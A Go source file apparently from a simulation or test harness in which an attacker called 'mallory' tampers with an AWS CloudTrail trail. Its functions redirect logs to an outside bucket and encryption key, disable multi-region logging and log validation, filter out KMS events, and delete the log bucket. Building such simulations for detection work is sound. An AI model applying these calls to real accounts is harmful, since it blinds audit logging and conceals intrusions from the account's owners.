package simulate

import (
	"context"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/cloudtrail"
	"github.com/aws/aws-sdk-go-v2/service/cloudtrail/types"
)

// weakenSevenFields redirects the logs and their notices, encrypts them with a key of somebody else's, and records
// less; CloudTrail itself switches global events off with multi-Region.
func weakenSevenFields(ctx context.Context, s *stage) error {
	_, err := s.attacker.UpdateTrail(ctx, &cloudtrail.UpdateTrailInput{
		Name:         aws.String(trailName),
		S3BucketName: aws.String("mallorys-bucket"),
		S3KeyPrefix:  aws.String("hidden"),
		KmsKeyId: aws.String(
			in(s.region, "999999999999").ARN("kms", "key/00000000-0000-0000-0000-000000000000"),
		),
		SnsTopicName:            aws.String(in(s.region, "999999999999").ARN("sns", "mallorys-topic")),
		IsMultiRegionTrail:      aws.Bool(false),
		EnableLogFileValidation: aws.Bool(false),
	})
	return err
}

func halfBlind(ctx context.Context, s *stage) error {
	_, err := s.attacker.PutEventSelectors(ctx, &cloudtrail.PutEventSelectorsInput{
		TrailName: aws.String(trailName),
		EventSelectors: []types.EventSelector{
			{ReadWriteType: types.ReadWriteTypeReadOnly, IncludeManagementEvents: aws.Bool(true)},
		},
	})
	return err
}

func excludeSource(ctx context.Context, s *stage) error {
	return putAdvanced(
		ctx,
		s,
		types.AdvancedFieldSelector{Field: aws.String("eventSource"), NotEquals: []string{"kms.amazonaws.com"}},
	)
}

func rewriteSelectors(ctx context.Context, s *stage) error { return putAdvanced(ctx, s) }

// putAdvanced puts one advanced selector of management events that fulfil the further conditions.
func putAdvanced(ctx context.Context, s *stage, further ...types.AdvancedFieldSelector) error {
	category := types.AdvancedFieldSelector{Field: aws.String("eventCategory"), Equals: []string{"Management"}}
	_, err := s.attacker.PutEventSelectors(ctx, &cloudtrail.PutEventSelectorsInput{
		TrailName: aws.String(trailName),
		AdvancedEventSelectors: []types.AdvancedEventSelector{
			{FieldSelectors: append([]types.AdvancedFieldSelector{category}, further...)},
		},
	})
	return err
}

func strengthen(ctx context.Context, s *stage) error {
	_, err := s.attacker.PutInsightSelectors(ctx, &cloudtrail.PutInsightSelectorsInput{
		TrailName: aws.String(
			trailName,
		),
		InsightSelectors: []types.InsightSelector{{InsightType: types.InsightTypeApiCallRateInsight}},
	})
	return err
}

// withoutBucket deletes the trail's bucket first.
func withoutBucket(do act) act {
	return func(ctx context.Context, s *stage) error {
		s.cloud.DeleteBucket(s.declared.Settings.S3Bucket)
		s.cloud.Note("mallory", "deletes the bucket "+s.declared.Settings.S3Bucket)
		return do(ctx, s)
	}
}

// withoutDigests weakens the trail without blinding it.
func withoutDigests(ctx context.Context, s *stage) error {
	_, err := s.attacker.UpdateTrail(
		ctx,
		&cloudtrail.UpdateTrailInput{Name: aws.String(trailName), EnableLogFileValidation: aws.Bool(false)},
	)
	return err
}
